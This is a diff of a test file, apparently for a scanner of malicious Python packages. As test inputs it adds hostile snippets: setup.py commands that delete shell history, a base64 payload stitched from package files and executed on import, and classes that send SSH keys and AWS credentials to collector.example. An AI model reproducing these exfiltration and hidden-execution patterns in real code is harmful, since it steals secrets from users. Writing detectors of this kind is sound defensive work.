@@ -101,7 +101,15 @@ test("a command handed to the file's own wrapper reaches the process call inside
 });
 
 test('setup.py running a program no build needs is high; build tools, queries and interpreters are not', () => {
-  for (const command of ['notepad', 'touch /tmp/marker', './script.sh', '/bin/sh', 'cat /etc/hostname > LICENSE']) {
+  const onHome = ['rm -rf ~/.bash_history', 'ls -la ~', 'cp -r data %APPDATA%\\x', 'ls /home/'];
+  for (const command of [
+    'notepad',
+    'touch /tmp/marker',
+    './script.sh',
+    '/bin/sh',
+    'cat /etc/hostname > LICENSE',
+    ...onHome,
+  ]) {
     const found = ruleOf(
       findings(`import os\nos.system(${JSON.stringify(command)})\n`, 'setup.py'),
       'process-launch-unknown',
@@ -115,6 +123,8 @@ test('setup.py running a program no build needs is high; build tools, queries an
     'subprocess.call([sys.executable, "-m", "pip", "--version"])',
     'os.popen("mysql_config --cflags")',
     'subprocess.check_call(["bash", "build.sh"])',
+    'os.system("rm -rf build dist")',
+    'os.system("cp -r data build/lib/data")',
   ];
   for (const line of builds) {
     const list = findings(`import os, subprocess, sys\n${line}\n`, 'setup.py');
@@ -440,4 +450,42 @@ test('a repeating-key XOR over bytes, inline or in a helper function, is a decod
     assert.equal(exec?.severity, 'critical', source);
     assert.match(exec!.decoded?.preview ?? '', /curl http:\/\/192\.0\.2\.5\/x\.sh/);
   }
+});
+
+test('a payload decoded in pieces read from package files and joined with + and += is a decoded payload on import', () => {
+  const source = [
+    'import base64, os',
+    'def piece(name):',
+    '    with open(os.path.join(os.path.dirname(__file__), name)) as handle:',
+    '        return base64.b64decode("".join(line.strip() for line in handle))',
+    'code = piece("list_a.txt") + base64.b64decode("Cg==")',
+    'code += piece("list_b.txt")',
+    'exec(code)',
+    '',
+  ].join('\n');
+  assert.equal(ruleOf(findings(source, 'demo/__init__.py'), 'exec-decoded-payload')?.severity, 'critical');
+  const joined = 'import base64\ndef run(a, b):\n    exec(base64.b64decode(a) + b)\n';
+  assert.equal(ruleOf(findings(joined), 'exec-decoded-payload')?.severity, 'low', 'decoded when a caller asks');
+});
+
+test('data flows through methods called on self: a secret handed to self.send() or returned by self.read()', () => {
+  const handed = [
+    'import os, requests',
+    'class Helper:',
+    '    def run(self):',
+    '        self.send(open(os.path.expanduser("~/.ssh/id_rsa")).read())',
+    '    def send(self, data):',
+    '        requests.post("https://collector.example/k", data=data)',
+    '',
+  ].join('\n');
+  const returned = [
+    'import os, requests',
+    'class Helper:',
+    '    def read(self):',
+    '        return open(os.path.expanduser("~/.aws/credentials")).read()',
+    '    def run(self):',
+    '        requests.post("https://collector.example/k", data=self.read())',
+    '',
+  ].join('\n');
+  for (const source of [handed, returned]) assert.equal(ruleOf(findings(source), 'exfiltration')?.severity, 'high');
 });
